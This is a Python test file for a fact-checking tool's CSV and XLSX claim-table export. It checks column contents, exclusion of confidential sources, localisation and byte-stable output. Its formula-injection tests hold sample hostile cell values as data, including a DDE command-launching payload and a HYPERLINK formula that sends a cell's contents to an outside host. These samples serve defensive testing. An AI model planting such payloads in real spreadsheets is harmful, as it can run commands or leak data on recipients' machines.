"""The table of claims: for readers, in their language, and text for every spreadsheet that opens it."""

import csv
import io
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import etree

from fcdesk.cases.model import Case, ClaimKind, Sourcing
from fcdesk.cases.records import Records
from fcdesk.cases.spreadsheets import without_formula
from fcdesk.writeup.labels import labels_for, languages
from fcdesk.writeup.tables import ClaimTable, claim_table_csv, claim_table_xlsx
from tests.writeup.samples import AT, QUOTES, STATEMENTS, long_case, sample_case, scales
from tests.writeup.test_any_case import TEXT, cases
from tests.writeup.test_confidentiality import PLANTED, planted

ROOT = Path(__file__).parents[2]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_SIGNS = "=+-@"


def csv_of(case: Case, language: str = "en") -> ClaimTable:
    return claim_table_csv(case, scales=scales(), labels=labels_for(language))


def xlsx_of(case: Case, language: str = "en") -> ClaimTable:
    return claim_table_xlsx(case, scales=scales(), labels=labels_for(language), version=3, prepared_at=AT)


def read_csv(data: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def read_xlsx(data: bytes) -> list[list[str | int]]:
    """The cells of the only sheet; a cell that is neither a shared string nor a number fails."""
    parts = parts_of(data)
    strings = [
        "".join(text.text or "" for text in item.iter(f"{_MAIN}t"))
        for item in etree.fromstring(parts["xl/sharedStrings.xml"])
    ]
    sheet = etree.fromstring(parts["xl/worksheets/sheet1.xml"])
    return [[_value(cell, strings) for cell in row] for row in sheet.iter(f"{_MAIN}row")]


def _value(cell: etree._Element, strings: list[str]) -> str | int:
    children = {child.tag.removeprefix(_MAIN): child.text or "" for child in cell}
    assert children.keys() <= {"v"}
    if cell.get("t") == "s":
        plain = strings[int(children["v"])]
        return re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), plain)
    assert cell.get("t") is None
    return int(children["v"]) if children else ""


def with_claim(case: Case, **changes: object) -> Case:
    return replace(case, claims=case.claims.put(replace(case.claims["claim-1"], **changes)))  # type: ignore[arg-type]  # the tests' own keyword arguments, by name


def with_verdict(case: Case, **changes: str) -> Case:
    return replace(case, verdicts=case.verdicts.put(replace(case.verdicts["verdict-1-0"], **changes)))  # type: ignore[arg-type]  # see above


# --- what the table says -----------------------------------------------------------------------------------------


def test_that_a_row_says_of_a_claim_what_the_write_up_says() -> None:
    case = with_claim(sample_case(), kind=ClaimKind.EVENT, sourcing=Sourcing.ANONYMOUS)
    headings, first, *_ = read_csv(csv_of(case).data)
    row = dict(zip(headings, first, strict=True))
    assert row.pop("Why this rating").split("\n")[1].startswith("Placeholder: a second paragraph")
    assert row == {
        "No.": "1",
        "Claim in plain words": STATEMENTS[0],
        "Words of the article": QUOTES[0],
        "Place in the article": "paragraph 1 of the article",
        "Claimant": "TASS sources",
        "How the source is named": "anonymous",
        "Kind of claim": "event",
        "Rating": "Unproven",
        "Date of the rating": "2026-11-22",
        "What we could not establish": "Placeholder: open questions are listed plainly.",
        "Pieces of evidence": "2",
        "Sources": "[1] Placeholder source A: the article itself. Placeholder publisher A, 2 January 2025. "
        "https://example.org/placeholder-article\n"
        "[2] Placeholder source B: official statement. Placeholder author, Placeholder publisher B, 2025. "
        "https://example.org/placeholder/b",
        "Remarks": "",
    }


def test_that_an_unjudged_claim_is_called_so_and_nothing_is_said_for_it() -> None:
    headings, *_, last = read_csv(csv_of(sample_case()).data)
    row = dict(zip(headings, last, strict=True))
    assert row["Rating"] == "Not yet judged"
    assert [row[key] for key in ("Date of the rating", "Why this rating", "Pieces of evidence")] == ["", "", "0"]


def test_that_a_lost_claim_keeps_its_quote_and_says_that_it_is_lost() -> None:
    case = sample_case()
    lost = replace(case.claims["claim-1"].anchor, start=None, end=None)
    *_, row = read_csv(csv_of(with_claim(case, anchor=lost)).data)
    assert row[2] == QUOTES[0]
    assert row[3] == ""
    assert row[-1] == "This passage is no longer in the current version of the article."


def test_that_another_wording_that_was_judged_is_quoted() -> None:
    _, row, *_ = read_csv(csv_of(with_verdict(sample_case(), wording="a wording that has gone")).data)
    assert row[-1] == "The rating was given to this wording: “a wording that has gone”"


def test_that_a_conclusion_in_free_words_stands_as_it_was_written() -> None:
    words = "Nothing in the records bears it out"
    _, row, *_ = read_csv(csv_of(with_verdict(sample_case(), rating=words, label=words, scale="none")).data)
    assert row[7] == words


def test_that_a_case_without_claims_or_article_is_a_row_of_headings() -> None:
    bare = replace(sample_case(), articles=Records(), claims=Records(), verdicts=Records(), links=Records())
    assert len(read_csv(csv_of(bare).data)) == len(read_xlsx(xlsx_of(bare).data)) == 1


def test_that_both_tables_hold_the_same_words() -> None:
    case = long_case(20)
    rows = [[str(cell) for cell in row] for row in read_xlsx(xlsx_of(case).data)]
    assert rows == read_csv(csv_of(case).data)


@pytest.mark.parametrize("language", languages())
def test_that_every_heading_and_word_is_there_in_every_language(language: str) -> None:
    labels = labels_for(language)
    headings, *_ = read_xlsx(xlsx_of(sample_case(), language).data)
    assert len(set(headings)) == 14
    assert all(headings)
    assert len({labels.say(f"kind {kind}") for kind in ClaimKind}) == len(ClaimKind)
    assert len({labels.say(f"sourcing {sourcing}") for sourcing in Sourcing}) == len(Sourcing)


# --- what must stay in the house ---------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "uk", "es", "ar"])
def test_that_no_byte_holds_what_must_stay_in_the_house(language: str) -> None:
    held = [csv_of(planted(), language).data, *parts_of(xlsx_of(planted(), language).data).values()]
    assert not any(PLANTED.lower().encode() in data.lower() for data in held)


def test_that_the_table_is_the_same_as_if_the_confidential_source_had_never_been() -> None:
    case = planted()
    never = replace(
        case,
        sources=case.sources.without("hidden"),
        evidence=case.evidence.without("hidden-1").without("hidden-2"),
        links=case.links.without("hidden-1").without("hidden-2"),
    )
    assert csv_of(case).data == csv_of(never).data
    assert xlsx_of(case).data == xlsx_of(never).data


def test_that_the_person_who_exports_is_told_what_was_left_out_and_what_to_read_again() -> None:
    case = with_verdict(planted(), because=f"As {PLANTED} author told us.")
    for table in (csv_of(case), xlsx_of(case)):
        assert table.remarks[0] == "1 confidential source and its 2 excerpts were left out."
        assert "claim 1 contains words of a confidential source" in table.remarks[-1]


# --- CSV ---------------------------------------------------------------------------------------------------------


def test_that_a_csv_file_is_utf_8_with_its_mark_and_lines_as_rfc_4180_has_them() -> None:
    data = csv_of(sample_case(), "uk").data
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 6
    assert data.count(b"\r") == 6


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\rx", "'\rx"),
        ("  =1", "  '=1"),
        ("\u00a0\u200b\ufeff=1", "\u00a0\u200b\ufeff'=1"),
        ("＝1", "'＝1"),
        ("﹣1", "'﹣1"),
        ('"=1', "\"'=1"),
        ("x;=1", "x;'=1"),
        ('x;"=1"', 'x;"\'=1"'),
        ("x\n- 1", "x\n'- 1"),
        ("x\t@y", "x\t'@y"),
        ("a=b, c-d@e.org + 1", "a=b, c-d@e.org + 1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_that_an_apostrophe_is_put_where_a_formula_could_begin_and_nowhere_else(text: str, written: str) -> None:
    assert without_formula(text) == written


def test_that_every_form_of_the_four_signs_is_known() -> None:
    for letter in map(chr, range(sys.maxunicode + 1)):
        is_sign = unicodedata.normalize("NFKC", letter) in tuple(_SIGNS)
        assert without_formula(letter) == (f"'{letter}" if is_sign or letter in "\t\n\r" else letter), hex(ord(letter))


ATTACK = st.one_of(
    st.text("=+-@＝\"';,|\t\r\n \u200b\u202ea1", max_size=25),
    st.sampled_from(["=cmd|' /C calc'!A0", '";=1+1;"', '=HYPERLINK("https://example.org?x="&A1)', "\n=1", "a\n\n;;@x"]),
    TEXT,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.tuples(ATTACK, ATTACK, ATTACK, ATTACK, ATTACK))
@example(texts=('a;"', "=1", '"', "\n=1", ';""=x'))
def test_that_no_spreadsheet_finds_a_formula_whatever_separator_it_takes(texts: tuple[str, ...]) -> None:
    statement, claimant, because, unknown, label = texts
    case = with_claim(sample_case(), statement=statement, claimant=claimant)
    case = with_verdict(case, because=because, unknown=unknown, label=label, rating=label, scale="none")
    data = csv_of(case).data
    for separator in ",;\t|":
        for row in read_csv(data, separator):
            for cell in row:
                assert unicodedata.normalize("NFKC", _seen(cell)[:1]) not in tuple(_SIGNS), (separator, cell)
                assert not cell.startswith(("\t", "\r", "\n")) or separator != ","


def _seen(cell: str) -> str:
    return "".join(letter for letter in cell if unicodedata.category(letter)[0] not in "CZ" and letter != '"')


def test_that_cells_that_were_changed_are_counted() -> None:
    assert csv_of(sample_case()).remarks == ()
    table = csv_of(with_verdict(sample_case(), because="=1", unknown="- 2"))
    assert table.remarks == (
        "In 2 cells an apostrophe was put before signs that a spreadsheet could take for the beginning of a formula.",
    )


# --- XLSX --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "@SUM(A1)", "{=1}", "https://example.org/x", "mailto:a@example.org", "internal:Sheet1!A1", "12", "1e5",
        "TRUE", "_x0041_", "<r><t>x</t></r>", "<r></broken>& </r>", "'=1", "&amp;", "#REF!", "external:c:\\x.xlsx",
    ],
)  # fmt: skip
def test_that_whatever_a_cell_holds_is_text_in_a_workbook(text: str) -> None:
    data = xlsx_of(with_claim(sample_case(), statement=text, claimant=text)).data
    _, row, *_ = read_xlsx(data)
    assert [str(row[place]).strip() for place in (1, 4)] == [text, text]
    assert b"hyperlink" not in parts_of(data)["xl/worksheets/sheet1.xml"]
    assert not any("rels" in name and "sheet1" in name for name in parts_of(data))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=cases(), language=st.sampled_from(["en", "ar", "en-US"]))
def test_that_any_case_becomes_tables_with_every_claim(case: Case, language: str) -> None:
    assert len(read_csv(csv_of(case, language).data)) == len(case.claims) + 1
    workbook = xlsx_of(case, language).data
    assert len(read_xlsx(workbook)) == len(case.claims) + 1
    for data in parts_of(workbook).values():
        etree.fromstring(data)


@pytest.mark.parametrize("letter", ["x", "😀"])
def test_that_a_cell_too_long_for_a_workbook_is_cut_with_a_mark_and_a_remark(letter: str) -> None:
    units = len(letter.encode("utf-16-le")) // 2
    fits, too_long = letter * (32_767 // units), letter * 40_000
    whole = xlsx_of(with_verdict(sample_case(), because=fits))
    assert read_xlsx(whole.data)[1][9] == fits
    assert whole.remarks == ()
    table = xlsx_of(with_verdict(sample_case(), because=too_long))
    cell = str(read_xlsx(table.data)[1][9])
    assert cell == letter * (cell.count(letter)) + " […]"
    assert 32_766 <= len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert table.remarks == ("1 cell was cut, because a spreadsheet holds no more; the cut is marked with […].",)
    assert read_csv(csv_of(with_verdict(sample_case(), because=too_long)).data)[1][9] == too_long


def _sheet(language: str = "en") -> etree._Element:
    return etree.fromstring(parts_of(xlsx_of(sample_case(), language).data)["xl/worksheets/sheet1.xml"])


def test_that_the_headings_stay_in_sight_and_are_on_every_page() -> None:
    pane = _sheet().find(f".//{_MAIN}pane")
    assert pane is not None
    assert (pane.get("state"), pane.get("ySplit"), pane.get("xSplit")) == ("frozen", "1", None)
    assert b"_xlnm.Print_Titles" in parts_of(xlsx_of(sample_case()).data)["xl/workbook.xml"]
    assert _sheet().find(f"{_MAIN}autoFilter") is not None


def test_that_a_row_is_high_enough_for_its_longest_cell() -> None:
    case = with_verdict(sample_case(), because="Placeholder words. " * 30, unknown="")
    sheet = etree.fromstring(parts_of(xlsx_of(case).data)["xl/worksheets/sheet1.xml"])
    heights = [float(row.get("ht", "0")) for row in sheet.iter(f"{_MAIN}row")]
    assert heights[1] >= 15 * len("Placeholder words. " * 30) / 46
    assert heights[5] < heights[1] <= 409


@pytest.mark.parametrize(("language", "is_right_to_left"), [("ar", True), ("en", False), ("uk", False)])
def test_that_arabic_columns_run_from_right_to_left(language: str, *, is_right_to_left: bool) -> None:
    view = _sheet(language).find(f".//{_MAIN}sheetView")
    assert view is not None
    assert (view.get("rightToLeft") == "1") is is_right_to_left


def test_that_the_files_own_record_says_what_it_is_and_names_nobody() -> None:
    case = replace(sample_case(), details=replace(sample_case().details, title="A & <B>"))
    parts = parts_of(xlsx_of(case, "uk").data)
    record = {element.tag.rpartition("}")[2]: element.text for element in etree.fromstring(parts["docProps/core.xml"])}
    assert record == {
        "title": "Твердження – A & <B>",
        "language": "uk-UA",
        "version": "3",
        "created": "2026-11-22T10:00:00Z",
        "modified": "2026-11-22T10:00:00Z",
    }
    assert b"<Application>fcdesk</Application>" in parts["docProps/app.xml"]
    assert not any(b"Microsoft Excel" in data or b"XlsxWriter" in data for data in parts.values())


def test_that_nothing_in_a_workbook_depends_on_the_system_it_was_written_on() -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx_of(sample_case()).data)) as package:
        entries = package.infolist()
    assert {(entry.create_system, entry.date_time[0], entry.compress_type) for entry in entries} == {(0, 1980, 8)}


PROGRAM = """
import hashlib
from tests.writeup.test_claimreview import markup_of
from tests.writeup.test_tables import csv_of, sample_case, xlsx_of
print(*(hashlib.sha256(made(sample_case()).data).hexdigest() for made in (csv_of, xlsx_of, markup_of)))
"""


def written_by_another_process(**environment: str) -> list[str]:
    variables = {**os.environ, "PYTHONPATH": str(ROOT), **environment}
    done = subprocess.run([sys.executable, "-c", PROGRAM], env=variables, capture_output=True, text=True, check=True)
    return done.stdout.split()


def test_that_neither_time_zone_nor_hash_seed_nor_locale_changes_a_byte() -> None:
    first = written_by_another_process(TZ="Pacific/Kiritimati", PYTHONHASHSEED="1", LC_ALL="C")
    second = written_by_another_process(TZ="America/St_Johns", PYTHONHASHSEED="4242", LC_ALL="C.UTF-8")
    assert first == second
    assert len(first) == 3
